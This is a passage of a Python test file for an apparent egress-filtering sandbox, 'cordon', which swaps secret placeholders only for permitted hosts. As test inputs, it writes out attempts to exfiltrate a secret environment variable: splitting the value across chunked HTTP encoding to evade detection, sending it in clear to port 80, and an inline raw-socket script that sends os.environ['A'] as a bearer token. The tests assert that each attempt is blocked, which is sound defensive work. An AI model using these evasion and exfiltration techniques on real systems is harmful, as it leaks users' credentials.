    script = RAW.replace('data = data.format_map(os.environ)', (
        'data = data.replace("@SPLIT", "\\0").split("\\0")\n'
        '    if len(data) == 2:\n'
        '        k = int(data[1].split("@")[0]); p = os.environ["A"]\n'
        '        data = data[0] + "".join(f"{len(c):x}\\r\\n{c}\\r\\n" for c in (p[:k], p[k:]) if c)'
        ' + "0\\r\\n\\r\\n"\n'
        '    else:\n'
        '        data = data[0]\n'
        '    data = data.format_map(os.environ)'))
    (net.dir / "raw_split.py").write_text(script)
    os.chmod(net.dir / "raw_split.py", 0o644)
    spec = [[s.tls is not None, f"{s.name}.test", s.port, d] for _, s, d in reqs]
    r = inside(cordon, net, ["python3", f"{EG}/raw_split.py", json.dumps(spec)], *opts, vals=v)
    assert r.status == 0, r
    out = [json.loads(l) for l in r.out.splitlines()]
    assert len(out) == len(reqs), r
    for a in out:
        status, h, body, _ = parse(a)
        assert " 403 " in status and h["x-cordon-denied"] == "exfil:A", a
    ph = inside(cordon, net, ["sh", "-c", 'echo "$A"'], *opts, vals=v).out.strip()
    for srv in (net.o_web, net.b_tls):
        assert not PLACEHOLDER.search(repr(srv.requests)), srv.requests
    denied = [d for d in r.result["egress"]["recent"] if not d["allowed"]]
    assert denied and all(d["rule"] == "exfil:A" for d in denied), r.result["egress"]
    # The control: the same body to A's own host goes through.
    ok_out, r2 = raw(cordon, net, [get(net.a_web, "/echo", "Content-Length: 60", method="POST",
                                       body=bodies[0][1])], *opts, vals=v)
    assert parse(ok_out[0])[0] == "HTTP/1.1 200 OK", ok_out
    assert PLACEHOLDER.search(net.a_web.requests[0]["body"].decode()), net.a_web.requests
    assert ph and all(val.encode() not in r.stdout for val in v.values())


def test_host_without_port_binds_443_only(cordon, net, raw_client):
    """--secret A=...@a.test: the value may go to a.test:443, never in clear
    to a.test:80, even with port 80 allowed; naming :80 binds it there."""
    web80 = es.Server("a", "127.0.0.2", port=80)
    try:
        v = values("A")
        q = [get(web80, "/headers", "Authorization: Bearer {A}")]
        q[0][2] = q[0][2].replace("a.test:80", "a.test")
        out, r = raw(cordon, net, q, "--secret", "A=env:VAL_A@a.test", "--allow", "a.test",
                     vals=v)
        status, h, _, _ = parse(out[0])
        assert " 403 " in status and h["x-cordon-denied"] == "exfil:A", out
        assert web80.count() == 0, web80.requests
        assert_no_value(v["A"], r)
        out, r = raw(cordon, net, q, "--secret", "A=env:VAL_A@a.test:80", vals=v)
        assert parse(out[0])[0] == "HTTP/1.1 200 OK", out
        assert [x["headers"]["Authorization"] for x in web80.requests] == [f"Bearer {v['A']}"]
    finally:
        web80.close()


def test_a_secret_bound_to_443_never_goes_in_clear(cordon, net, raw_client):
    """443 is TLS's port: a placeholder in plain HTTP to a.test:443, through the
    proxy or straight (transparent egress), is refused, not swapped in clear."""
    web443 = es.Server("a", "127.0.0.2", port=443)
    try:
        v = values("A")
        q = [get(web443, "/headers", "Authorization: Bearer {A}")]
        out, r = raw(cordon, net, q, "--secret", "A=env:VAL_A@a.test", vals=v)
        status, h, _, _ = parse(out[0])
        assert " 403 " in status and h["x-cordon-denied"] == "exfil:A", out
        assert_no_value(v["A"], r)
        direct = ("import os, socket\n"
                  "s = socket.create_connection(('a.test', 443), timeout=20)\n"
                  "s.sendall(('GET /headers HTTP/1.1\\r\\nHost: a.test:443\\r\\n'\n"
                  "           'Authorization: Bearer ' + os.environ['A'] +\n"
                  "           '\\r\\nConnection: close\\r\\n\\r\\n').encode())\n"
                  "print(s.recv(65536).decode('latin-1').splitlines()[0])\n")
        r = inside(cordon, net, ["python3", "-c", direct], "--secret", "A=env:VAL_A@a.test",
                   vals=v)
        assert r.status == 0 and " 403 " in r.out, r
        assert_no_value(v["A"], r)
        assert web443.count() == 0, web443.requests
    finally:
        web443.close()
